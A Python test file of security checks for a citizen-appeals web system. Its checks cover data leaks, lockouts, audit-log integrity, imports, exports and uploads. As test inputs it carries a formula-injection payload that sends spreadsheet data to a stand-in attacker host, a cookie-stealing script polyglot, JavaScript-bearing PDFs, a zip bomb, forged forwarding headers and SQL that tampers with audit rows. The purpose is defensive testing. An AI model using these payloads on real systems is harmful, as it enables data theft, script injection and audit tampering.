"""The security probe's checks, in the order they run. Each returns (passed, reason).

Grouped by the issue's findings: public side, idempotency, identity, least privilege,
audit, input at the edges, exports, safe defaults, headers and proxies, data at rest.
"""

from __future__ import annotations

import io
import os
import re
import tempfile
import uuid
import zipfile
from pathlib import Path

from probe_client import (
    HOUSE,
    ID_NUMBER,
    ID_RE,
    NAME_IN_REPLY,
    PHONE,
    PHONE_RE,
    REPO,
    TRUSTED_PROXY,
    Browser,
    Probe,
    Response,
    api,
    check,
)

Result = tuple[bool, str]


def _leaks(text: str) -> list[str]:
    found = []
    if PHONE in text or PHONE_RE.search(text):
        found.append("phone")
    if ID_NUMBER in text or ID_RE.search(text):
        found.append("ID number")
    if "188号" in text or HOUSE in text:
        found.append("house number")
    if "陈国华" in text:
        found.append("name")
    return found


def _proxy(p: Probe, client_ip: str) -> Browser:
    """A browser behind the trusted reverse proxy, as the citizen ``client_ip``."""
    return Browser(p.port, source=TRUSTED_PROXY, via_proxy=True, forwarded_for=client_ip)


def _count(p: Probe, sql: str) -> int:
    ok, rows = p.sql(sql)
    if not ok:
        raise RuntimeError(rows)
    return int(re.findall(r"\d+", rows)[0])


def _staff(p: Probe, username: str, *, otp: bool = False, client_ip: str = "198.51.100.50") -> Browser:
    """A logged-in staff browser over HTTPS (through the trusted proxy), with the second factor when asked."""
    b = _proxy(p, client_ip)
    r = b.login(username)
    if r.status not in (302, 303):
        raise RuntimeError(f"login of {username} answered {r.status}")
    if otp:
        from django_otp.oath import totp

        key = bytes.fromhex(p.seed["otp"][username])
        b.get("/accounts/otp/verify/")
        r = b.post_form("/accounts/otp/verify/", {"token": f"{totp(key):06d}"})
        if r.status not in (302, 303):
            raise RuntimeError(f"second factor of {username} answered {r.status}")
    return b


# ----- 1. the public side ----------------------------------------------------------------------------


@check("Open311 anonymous list carries no phone, ID number, house number or name")
def open311_list(p: Probe) -> Result:
    r = Browser(p.port, source=TRUSTED_PROXY, via_proxy=True, forwarded_for="198.51.100.1").get("/open311/v2/requests.json")
    leaks = _leaks(r.text)
    return r.status == 200 and not leaks, f"HTTP {r.status}, leaks: {leaks or 'none'}"


@check("Open311 anonymous list has no hotline call and no 举报")
def open311_channels(p: Probe) -> Result:
    r = _proxy(p, "198.51.100.2").get("/open311/v2/requests.json")
    hidden = [k for k in ("hotline", "report") if p.seed["appeals"][k]["token"] in r.text or p.seed["appeals"][k]["number"] in r.text]
    shown = p.seed["appeals"]["public"]["token"] in r.text
    return not hidden and shown, f"hidden appeals listed: {hidden or 'none'}; the open-data appeal listed: {shown}"


@check("Open311 identifies appeals by an unguessable token, never the sequential number")
def open311_tokens(p: Probe) -> Result:
    b = _proxy(p, "198.51.100.3")
    number = p.seed["appeals"]["public"]["number"]
    by_number = b.get(f"/open311/v2/requests/{number}.json").status
    by_token = b.get(f"/open311/v2/requests/{p.seed['appeals']['public']['token']}.json").status
    listed = number in b.get("/open311/v2/requests.json").text
    return by_number == 404 and by_token == 200 and not listed, f"by number {by_number}, by token {by_token}, number in list: {listed}"


@check("a reply naming the citizen is not published as a status note")
def open311_reply(p: Probe) -> Result:
    b = _proxy(p, "198.51.100.4")
    text = b.get(f"/open311/v2/requests/{p.seed['appeals']['public']['token']}.json").text
    return NAME_IN_REPLY not in text and "陈国华" not in text, "reply text absent" if NAME_IN_REPLY not in text else "reply text published"


@check("anonymous look-ups are rate-limited per citizen (429 with Retry-After)")
def open311_rate(p: Probe) -> Result:
    b = _proxy(p, "198.51.100.5")
    statuses = []
    for i in range(80):
        r = b.get(f"/open311/v2/requests/{uuid.uuid4().hex[:22]}.json")
        statuses.append(r.status)
        if r.status == 429:
            return "retry-after" in r.headers, f"429 after {i + 1} look-ups, Retry-After: {r.headers.get('retry-after')}"
    return False, f"80 look-ups, no 429 (statuses {sorted(set(statuses))})"


@check("the portal's confirmation page does not open by sequential number")
def portal_by_number(p: Probe) -> Result:
    r = _proxy(p, "198.51.100.6").get(f"/portal/done/{p.seed['appeals']['public']['number']}")
    where = r.headers.get("location", "")
    return r.status == 404 or (r.status == 302 and where.endswith("/portal/track")), f"HTTP {r.status} {where}"


# ----- 2. idempotency ----------------------------------------------------------------------------------


def _create(p: Probe, key: str, idem: str, title: str) -> Response:
    body = {"channel": "12345", "title": title, "content": f"{title}，已经两天了。", "phone": "13700001111", "kind": "complaint"}
    return api(p.port, "POST", "/api/v1/appeals", key, body, headers={"Idempotency-Key": idem})


@check("the same Idempotency-Key from two API keys creates two appeals, without leaking the first")
def idempotency_scoped(p: Probe) -> Result:
    idem = f"probe-{uuid.uuid4().hex}"
    a = _create(p, p.seed["keys"]["a"], idem, "小区路灯不亮")
    b = _create(p, p.seed["keys"]["b"], idem, "小区路灯不亮")
    if a.status != 201 or b.status != 201:
        return False, f"A {a.status}, B {b.status}: {b.text[:200]}"
    na, nb = a.json().get("number"), b.json().get("number")
    return na != nb and "13700001111" not in b.text, f"A {na}, B {nb}"


@check("the same Idempotency-Key with a different body is refused with 409")
def idempotency_conflict(p: Probe) -> Result:
    idem = f"probe-{uuid.uuid4().hex}"
    first = _create(p, p.seed["keys"]["a"], idem, "井盖缺失")
    again = _create(p, p.seed["keys"]["a"], idem, "井盖缺失")
    other = _create(p, p.seed["keys"]["a"], idem, "垃圾没人清运")
    ok = first.status == 201 and again.status in (200, 201) and again.json().get("number") == first.json().get("number") and other.status == 409
    return ok, f"first {first.status}, retry {again.status}, other body {other.status}"


# ----- 8. least privilege --------------------------------------------------------------------------------


@check("an API key scoped appeals:read,appeals:write sees only its own appeals, phones masked")
def api_key_scope(p: Probe) -> Result:
    r = api(p.port, "GET", "/api/v1/appeals", p.seed["keys"]["b"])
    others = [k for k, a in p.seed["appeals"].items() if a["number"] in r.text]
    leaks = _leaks(r.text)
    return r.status == 200 and not others and not leaks, f"HTTP {r.status}, others' appeals listed: {others or 'none'}, leaks: {leaks or 'none'}"


@check("a leader sees ID and phone numbers in appeal text masked")
def leader_masked(p: Probe) -> Result:
    b = _staff(p, "p-leader")
    r = b.get(f"/appeals/{p.seed['appeals']['hotline']['number']}")
    return r.status == 200 and ID_NUMBER not in r.text and PHONE not in r.text, f"HTTP {r.status}, leaks: {_leaks(r.text) or 'none'}"


@check("an operator sees masks until an explicit reveal, and the reveal is in the security log")
def reveal_audited(p: Probe) -> Result:
    b = _staff(p, "p-operator")
    number = p.seed["appeals"]["hotline"]["number"]
    before = b.get(f"/appeals/{number}").text
    shown = b.post_form(f"/appeals/{number}/reveal", {}).text
    logged = _count(p, f"SELECT count(*) FROM audit_securityevent WHERE kind='reveal_pii' AND target LIKE '%{number}%'")
    return PHONE not in before and PHONE in shown and logged >= 1, f"masked first: {PHONE not in before}, revealed: {PHONE in shown}, log rows: {logged}"


# ----- 3. identity -------------------------------------------------------------------------------------


@check("after repeated wrong passwords the right one no longer logs in (account lockout)")
def lockout_account(p: Probe) -> Result:
    statuses = []
    for i in range(30):
        b = _proxy(p, f"203.0.113.{10 + i}")  # a different address each time: the account itself must lock
        statuses.append(b.login("p-dispatcher", "Wrong#Password-1").status)
    right = _proxy(p, "203.0.113.99").login("p-dispatcher")
    return right.status not in (302, 303), f"30 failures ({sorted(set(statuses))}), then the right password: HTTP {right.status}"


@check("one address trying many accounts is locked out (address lockout)")
def lockout_address(p: Probe) -> Result:
    for name in ("p-handler", "p-handler2", "p-supervisor", "nobody1", "nobody2", "nobody3", "nobody4"):
        _proxy(p, "203.0.113.200").login(name, "Wrong#Password-1")
    right = _proxy(p, "203.0.113.200").login("p-leader")
    return right.status not in (302, 303), f"the right password from that address: HTTP {right.status}"


@check("failed logins are recorded with user name and address")
def failed_logged(p: Probe) -> Result:
    n = _count(p, "SELECT count(*) FROM audit_securityevent WHERE kind='login_failed' AND actor_label='p-dispatcher' AND ip LIKE '203.0.113.%'")
    locked = _count(p, "SELECT count(*) FROM audit_securityevent WHERE kind='lockout'")
    return n >= 5 and locked >= 1, f"{n} failed-login rows for p-dispatcher, {locked} lockout rows"


@check("logins and logouts are recorded")
def login_logout_logged(p: Probe) -> Result:
    b = _staff(p, "p-supervisor", client_ip="198.51.100.77")
    b.post_form("/logout", {})
    ins = _count(p, "SELECT count(*) FROM audit_securityevent WHERE kind='login' AND actor_label='p-supervisor' AND ip='198.51.100.77'")
    outs = _count(p, "SELECT count(*) FROM audit_securityevent WHERE kind='logout' AND actor_label='p-supervisor'")
    return ins >= 1 and outs >= 1, f"login rows {ins}, logout rows {outs}"


@check("a weak password (Zhang2026) and the demo password are refused")
def password_policy(p: Probe) -> Result:
    code = (
        "from django.core.exceptions import ValidationError\n"
        "from minyi.directory.services import create_staff\n"
        "from minyi.workflow.policy import Role\n"
        "bad = []\n"
        "for i, pw in enumerate(['Zhang2026', 'minyi-demo-2026', 'abcdefghij']):\n"
        "    try:\n"
        "        create_staff(f'weak{i}', Role.OPERATOR, 'sjj-12345', password=pw)\n"
        "        bad.append(pw)\n"
        "    except ValidationError:\n"
        "        pass\n"
        "print('ACCEPTED', bad)\n"
    )
    out = p.python(code)
    return "ACCEPTED []" in out.stdout, out.stdout.strip()[-200:] or out.stderr.strip()[-300:]


@check("sessions end after 8 hours at most, and on 30 minutes idle (settings in force)")
def session_limits(p: Probe) -> Result:
    out = p.python("from django.conf import settings as s\nprint(s.SESSION_COOKIE_AGE, s.MINYI_SESSION_IDLE_MINUTES)")
    age, idle = (int(x) for x in out.stdout.split())
    return age <= 8 * 3600 and 0 < idle <= 30, f"cookie age {age} s, idle {idle} min"


@check("an admin without the second factor cannot reach /admin/")
def admin_needs_otp(p: Probe) -> Result:
    b = _staff(p, "p-admin")
    r = b.get("/admin/")
    return r.status != 200, f"/admin/ answered {r.status} before the second factor"


@check("三员分立: the auditor reads the security log and no appeal; the admin cannot read the log")
def separation(p: Probe) -> Result:
    auditor = _staff(p, "p-auditor", otp=True)
    admin = _staff(p, "p-admin", otp=True)
    secadmin = _staff(p, "p-secadmin", otp=True)
    a_log, a_appeals = auditor.get("/audit/").status, auditor.get("/appeals/").status
    adm_log, adm_admin = admin.get("/audit/").status, admin.get("/admin/").status
    sec_appeals = secadmin.get(f"/appeals/{p.seed['appeals']['hotline']['number']}").status
    ok = a_log == 200 and a_appeals == 403 and adm_log == 403 and adm_admin == 200 and sec_appeals in (403, 404)
    return ok, f"auditor /audit/ {a_log}, /appeals/ {a_appeals}; admin /audit/ {adm_log}, /admin/ {adm_admin}; secadmin appeal {sec_appeals}"


@check("Django superusers do not log in in production")
def no_superuser(p: Probe) -> Result:
    p.python("from django.contrib.auth import get_user_model\nget_user_model().objects.create_superuser('p-root', '', 'Root#Probe-2026x')")
    r = _proxy(p, "198.51.100.90").login("p-root", "Root#Probe-2026x")
    return r.status not in (302, 303), f"superuser login answered {r.status}"


# ----- 4. audit ------------------------------------------------------------------------------------------


@check("the database refuses UPDATE and DELETE on the appeal timeline and the security log")
def audit_append_only(p: Probe) -> Result:
    results = {
        "update timeline": p.sql("UPDATE workflow_auditevent SET reason = 'rewritten' WHERE id = (SELECT min(id) FROM workflow_auditevent)")[0],
        "delete timeline": p.sql("DELETE FROM workflow_auditevent WHERE id = (SELECT min(id) FROM workflow_auditevent)")[0],
        "update security log": p.sql("UPDATE audit_securityevent SET actor_label = 'x' WHERE id = (SELECT min(id) FROM audit_securityevent)")[0],
        "delete security log": p.sql("DELETE FROM audit_securityevent WHERE id = (SELECT max(id) FROM audit_securityevent)")[0],
    }
    allowed = [k for k, ok in results.items() if ok]
    return not allowed, f"statements that went through: {allowed or 'none'}"


@check("`minyi audit verify` passes on the untouched trail")
def audit_verify_clean(p: Probe) -> Result:
    out = p.minyi("audit", "verify")
    return out.returncode == 0, f"exit {out.returncode}: {(out.stdout or out.stderr).strip().splitlines()[-1:]}"


@check("an export of personal data, a reveal and an attachment download each leave a security-log row")
def audit_events(p: Probe) -> Result:
    b = _staff(p, "p-operator", client_ip="198.51.100.81")
    masked = b.get("/cockpit/export/appeals?format=csv").text  # the everyday export: masked, so not an event
    if "陈国华" in masked or "188号" in masked:
        return False, "the default export carries full names or house numbers"
    b.get("/cockpit/export/appeals?format=csv&full=1")  # with personal data: must be logged
    kinds = dict.fromkeys(["export_pii", "reveal_pii", "attachment_download"], 0)
    att = p.seed.get("attachment")
    if att:
        b.get(att)
    for kind in kinds:
        kinds[kind] = _count(p, f"SELECT count(*) FROM audit_securityevent WHERE kind='{kind}'")
    return all(kinds.values()), f"rows: {kinds}"


@check("even with the flush flag a session cannot TRUNCATE the audit tables")
def audit_truncate(p: Probe) -> Result:
    ok, detail = p.sql("BEGIN; SET LOCAL minyi.allow_truncate = 'on'; TRUNCATE audit_securityevent CASCADE; COMMIT;")
    p.sql("ROLLBACK")
    return not ok, detail if not ok else "TRUNCATE went through"


@check("`minyi audit verify` names a back-dated row slipped into the security log")
def audit_backdated(p: Probe) -> Result:
    inserted = p.sql(
        "INSERT INTO audit_securityevent (at, kind, actor_label, ip, user_agent, target, outcome, details, prev_hash, row_hash) "
        "VALUES (now() - interval '200 days', 'unlock', 'secadmin', '10.1.1.1', '', '', 'ok', '{}', '', '') RETURNING id"
    )
    out = p.minyi("audit", "verify")
    row = re.findall(r"\d+", inserted[1])
    named = bool(row) and re.search(rf"\b{row[0]}\b", out.stdout + out.stderr) is not None
    return inserted[0] and out.returncode != 0 and named, f"verify exit {out.returncode}, names the row: {named}"


@check("a leader cannot confirm a masked ID number by searching titles")
def leader_search(p: Probe) -> Result:
    b = _staff(p, "p-leader", client_ip="198.51.100.83")
    hits = [b.get(f"/appeals/?q={ID_NUMBER[:10]}").text.count("/appeals/2026"), b.get(f"/appeals/?q={PHONE}").text.count("/appeals/2026")]
    return hits == [0, 0], f"results for an ID prefix and a phone: {hits}"


# ----- 5. input at the edges -----------------------------------------------------------------------------


HEADER = "工单编号,来电时间,来电人,联系电话,诉求类型,问题分类,标题,诉求内容,事发地址,办理结果,办结时间\n"


def _import(p: Probe, content: bytes, suffix: str = ".csv", *, dry_run: bool = True) -> tuple[int, str]:
    with tempfile.NamedTemporaryFile(suffix=suffix, delete=False) as f:
        f.write(content)
    try:
        args = ["import", f.name, "--mapping", str(REPO / "examples" / "mappings" / "hotline12345.toml")]
        out = p.minyi(*args, *(["--dry-run"] if dry_run else []))
        return out.returncode, out.stdout + out.stderr
    finally:
        os.unlink(f.name)


def _rows(n: int, start: int = 0) -> str:
    return "".join(f"P{start + i:05d},2026-11-0{1 + i % 9} 09:00:00,张三,139{i:08d},投诉,物业,电梯故障{i},电梯坏了{i}天,幸福小区,,\n" for i in range(n))


@check("import: a stray quote swallowing rows is reported by the dry run with its row number")
def import_stray_quote(p: Probe) -> Result:
    rows = _rows(20).splitlines(keepends=True)
    rows[3] = rows[3].replace("电梯故障3", '"电梯故障3')
    code, out = _import(p, (HEADER + "".join(rows)).encode("utf-8"))
    return code != 0 and re.search(r"第\s*\d+\s*行|row", out) is not None, f"exit {code}: {out.strip().splitlines()[-1:]}"


@check("import: a NUL byte late in the file stops the import before anything is written")
def import_nul(p: Probe) -> Result:
    before = _count(p, "SELECT count(*) FROM appeals_appeal")
    rows = _rows(1500, 10000).splitlines(keepends=True)
    rows[1400] = rows[1400].replace("电梯坏了", "电梯\x00坏了")
    code, _out = _import(p, (HEADER + "".join(rows)).encode("utf-8"), dry_run=False)
    after = _count(p, "SELECT count(*) FROM appeals_appeal")
    return code != 0 and after == before, f"exit {code}, appeals before {before}, after {after}"


@check("import: an xlsx zip bomb is refused without inflating it")
def import_bomb(p: Probe) -> Result:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<sheetData>" + b"<row/>" * 40_000_000 + b"</sheetData>")
    code, out = _import(p, buf.getvalue(), suffix=".xlsx")
    return code != 0 and len(buf.getvalue()) < 1_000_000, f"{len(buf.getvalue()) // 1024} KB bomb: exit {code}: {out.strip().splitlines()[-1:]}"


# ----- 6. exports ------------------------------------------------------------------------------------------


@check("exports neutralise formulas in XLSX and CSV")
def export_formulas(p: Probe) -> Result:
    import openpyxl

    title = '=HYPERLINK("http://evil.example/?"&H2,"点击查看")'
    body = {"channel": "12345", "title": title, "content": "公式注入测试内容", "phone": "13700002222"}
    created = api(p.port, "POST", "/api/v1/appeals", p.seed["keys"]["a"], body)
    b = _staff(p, "p-operator", client_ip="198.51.100.82")
    csv_text = b.get("/cockpit/export/appeals?format=csv").text
    book = openpyxl.load_workbook(io.BytesIO(b.get("/cockpit/export/appeals?format=xlsx").body))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    live = [c.coordinate for c in cells if c.data_type == "f" or str(c.value).startswith("=")]
    csv_live = any(line.startswith("=") or ",=" in line or ',"=' in line for line in csv_text.splitlines())
    return created.status == 201 and cells and not live and not csv_live, f"created {created.status}; xlsx cells {len(cells)}, live {live}; csv live {csv_live}"


# ----- 7. safe defaults ------------------------------------------------------------------------------------


@check("production pages show no debug information")
def no_debug(p: Probe) -> Result:
    r = _proxy(p, "198.51.100.91").get("/no-such-page/../admin")
    text = r.text
    return r.status == 404 and "Traceback" not in text and "URLconf" not in text and "DEBUG" not in text, f"HTTP {r.status}"


@check("the server refuses to start with the placeholder secret or without keys")
def placeholder_refused(p: Probe) -> Result:
    env = {**p.env, "MINYI_SECRET_KEY": "change-me-minyi-placeholder-secret"}
    import subprocess

    from probe_client import MINYI

    placeholder = subprocess.run([MINYI, "check"], env=env, capture_output=True, text=True, timeout=300)
    no_pii = subprocess.run([MINYI, "check"], env={k: v for k, v in p.env.items() if k != "MINYI_PII_KEYS"}, capture_output=True, text=True, timeout=300)
    no_audit = subprocess.run([MINYI, "check"], env={k: v for k, v in p.env.items() if k != "MINYI_AUDIT_KEY"}, capture_output=True, text=True, timeout=300)
    codes = (placeholder.returncode, no_pii.returncode, no_audit.returncode)
    return all(c != 0 for c in codes), f"exit codes (placeholder, no PII key, no audit key): {codes}"


@check("seed-demo is refused in production")
def seed_demo_refused(p: Probe) -> Result:
    before = _count(p, "SELECT count(*) FROM auth_user WHERE username = 'admin'")
    out = p.minyi("seed-demo", "--appeals", "5")
    after = _count(p, "SELECT count(*) FROM auth_user WHERE username = 'admin'")
    return out.returncode != 0 and before == after == 0, f"exit {out.returncode}, demo admin accounts {after}"


# ----- 9. headers, proxies, bodies, uploads --------------------------------------------------------------


@check("pages carry a CSP without inline script, nosniff and frame protection")
def csp(p: Probe) -> Result:
    h = _proxy(p, "198.51.100.92").get("/portal/").headers
    policy = h.get("content-security-policy", "")
    script = next((d for d in policy.split(";") if d.strip().startswith("script-src")), "")
    ok = bool(policy) and "'unsafe-inline'" not in script and h.get("x-content-type-options") == "nosniff" and "frame-ancestors 'none'" in policy
    return ok, f"script-src: {script.strip() or '(none)'}"


@check("HSTS is sent over HTTPS")
def hsts(p: Probe) -> Result:
    value = _proxy(p, "198.51.100.93").get("/portal/").headers.get("strict-transport-security", "")
    return "max-age=" in value and int(re.findall(r"max-age=(\d+)", value)[0]) >= 15_552_000, value or "(none)"


@check("X-Forwarded-For from an untrusted peer does not escape the rate limit")
def xff_spoof(p: Probe) -> Result:
    for i in range(80):
        r = Browser(p.port).get(f"/open311/v2/requests/{uuid.uuid4().hex[:22]}.json", headers={"X-Forwarded-For": f"192.0.2.{i}"})
        if r.status == 429:
            return True, f"429 after {i + 1} look-ups with a forged address each time"
    return False, "80 look-ups with forged X-Forwarded-For, no 429"


@check("citizens behind the trusted proxy have separate limits")
def xff_trusted(p: Probe) -> Result:
    statuses = {_proxy(p, f"198.51.100.{120 + i}").get(f"/open311/v2/requests/{uuid.uuid4().hex[:22]}.json").status for i in range(40)}
    return 429 not in statuses, f"40 citizens, one look-up each: {sorted(statuses)}"


@check("a 300 MB body is refused before it is read (413)")
def body_cap(p: Probe) -> Result:
    import http.client
    import time

    conn = http.client.HTTPConnection("127.0.0.1", p.port, timeout=30)
    started = time.monotonic()
    conn.putrequest("POST", "/portal/")
    conn.putheader("Content-Type", "multipart/form-data; boundary=x")
    conn.putheader("Content-Length", str(300 * 1024 * 1024))
    conn.endheaders()
    conn.send(b"--x\r\n")
    status = conn.getresponse().status
    conn.close()
    return status == 413, f"HTTP {status} after {time.monotonic() - started:.1f} s with 5 bytes sent"


@check("a NUL byte in POST /api/v1/assistant/precheck gets a 4xx, not a 500")
def precheck_nul(p: Probe) -> Result:
    r = api(p.port, "POST", "/api/v1/assistant/precheck", p.seed["keys"]["a"], {"question": "办理居住证\x00需要什么材料", "files": ["身份证\x00.jpg"]})
    return 400 <= r.status < 500, f"HTTP {r.status}"


def _portal_upload(p: Probe, name: str, data: bytes, ctype: str, client_ip: str) -> Response:
    b = _proxy(p, client_ip)
    form = b.get("/portal/").text
    idem = re.search(r'name="idempotency_key" value="([^"]*)"', form)
    boundary = uuid.uuid4().hex
    fields = {
        "kind": "complaint",
        "title": "路面破损",
        "content": "湖滨路路面有个大坑，电动车容易摔倒。",
        "phone": "13600003333",
        "csrfmiddlewaretoken": b.cookies.get("csrftoken", ""),
        "idempotency_key": idem.group(1) if idem else uuid.uuid4().hex,
    }
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items()]
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="photos"; filename="{name}"\r\nContent-Type: {ctype}\r\n\r\n'.encode() + data + b"\r\n")
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    headers = {
        "Content-Type": f"multipart/form-data; boundary={boundary}",
        "Origin": f"https://127.0.0.1:{p.port}",
        "Referer": f"https://127.0.0.1:{p.port}/portal/",
    }
    return b.request("POST", "/portal/", body=body, headers=headers)


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


@check("uploads: a PNG/HTML polyglot is neutralised and a PDF with JavaScript refused")
def uploads(p: Probe) -> Result:
    before = _count(p, "SELECT count(*) FROM appeals_attachment")
    polyglot = _png() + b"<html><script>alert(document.cookie)</script></html>"
    _portal_upload(p, "photo.png", polyglot, "image/png", "198.51.100.140")
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    _portal_upload(p, "材料.pdf", pdf, "application/pdf", "198.51.100.141")
    hidden = (
        b"%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R\n%stream\n/OpenAction 4 0 R >> endobj\n"
        b"4 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >>\n%endstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    _portal_upload(p, "证明.pdf", hidden, "application/pdf", "198.51.100.142")
    _ok, rows = p.sql(f"SELECT file, content_type FROM appeals_attachment ORDER BY id OFFSET {before}")
    stored = re.findall(r"'([^']+)'", rows)
    media = Path(p.env["MINYI_VAR_DIR"]) / "media"
    files = [media / s for s in stored if not s.startswith(("image/", "application/"))]
    scripts = [f.name for f in files if f.exists() and b"<script" in f.read_bytes()]
    pdfs = [s for s in stored if s.endswith(".pdf")]
    return not scripts and not pdfs, f"stored {len(files)} file(s); with <script>: {scripts or 'none'}; PDFs kept: {pdfs or 'none'}"


# ----- 密评: personal data at rest -------------------------------------------------------------------------


@check("phone numbers are stored encrypted, imported ones too (no plaintext phone in the appeal table)")
def at_rest(p: Probe) -> Result:
    code, _out = _import(p, (HEADER + _rows(5, 20000)).encode("utf-8"), dry_run=False)
    ok, rows = p.sql("SELECT phone FROM appeals_appeal")
    plain = re.findall(r"'(1[3-9]\d{9})'", rows)
    return code == 0 and ok and not plain, f"import exit {code}; plaintext phones: {plain[:3] or 'none'}"


@check("`minyi audit verify` names a row altered behind the triggers' back")
def audit_tamper(p: Probe) -> Result:
    row = _count(p, "SELECT min(id) FROM workflow_auditevent")
    p.minyi("audit", "seal")
    changed = p.sql(
        "BEGIN; ALTER TABLE workflow_auditevent DISABLE TRIGGER USER; "
        f"UPDATE workflow_auditevent SET reason = 'rewritten by the probe' WHERE id = {row}; "
        "ALTER TABLE workflow_auditevent ENABLE TRIGGER USER; COMMIT;"
    )
    out = p.minyi("audit", "verify")
    named = re.search(rf"\b{row}\b", out.stdout + out.stderr) is not None
    return changed[0] and out.returncode != 0 and named, f"altered row {row}; verify exit {out.returncode}, names it: {named}"
